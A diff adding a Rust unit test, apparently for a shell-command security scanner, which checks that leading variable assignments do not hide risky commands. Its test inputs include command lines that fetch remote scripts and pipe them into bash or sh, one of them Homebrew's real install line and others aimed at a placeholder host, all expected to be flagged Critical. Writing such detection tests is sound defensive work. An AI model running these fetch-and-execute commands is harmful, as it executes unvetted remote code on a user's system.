@@ -234,3 +234,27 @@ fn parser_is_total_on_garbage() {
     let deep = "sh -c '".to_string() + &"sh -c \\'".repeat(50);
     let _ = scan(&deep);
 }
+
+#[test]
+fn leading_assignments_do_not_hide_the_command() {
+    // Homebrew's documented install line, and the same shape elsewhere.
+    let brew = r#"NONINTERACTIVE=1 /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)""#;
+    assert_eq!(rule_sev(brew).1, Severity::Critical);
+    assert_eq!(
+        rule_sev("curl -fsSL https://x.test/i.sh | METHOD=script bash").1,
+        Severity::Critical
+    );
+    assert_eq!(
+        one("FOO=1 BAR=two python3 -c 'print(1)'").rule,
+        rules::INLINE_CODE
+    );
+    // The substitution of an assignment still runs, so it is still read.
+    assert_eq!(
+        rule_sev(r#"X="$(curl -fsSL https://x.test/a | sh)""#).1,
+        Severity::Critical
+    );
+    // Not assignments: quoted, or not a variable name, or an argument.
+    none("echo A=1 python3 -c x");
+    none(r#""A=1" true"#);
+    none("1A=2 true");
+}
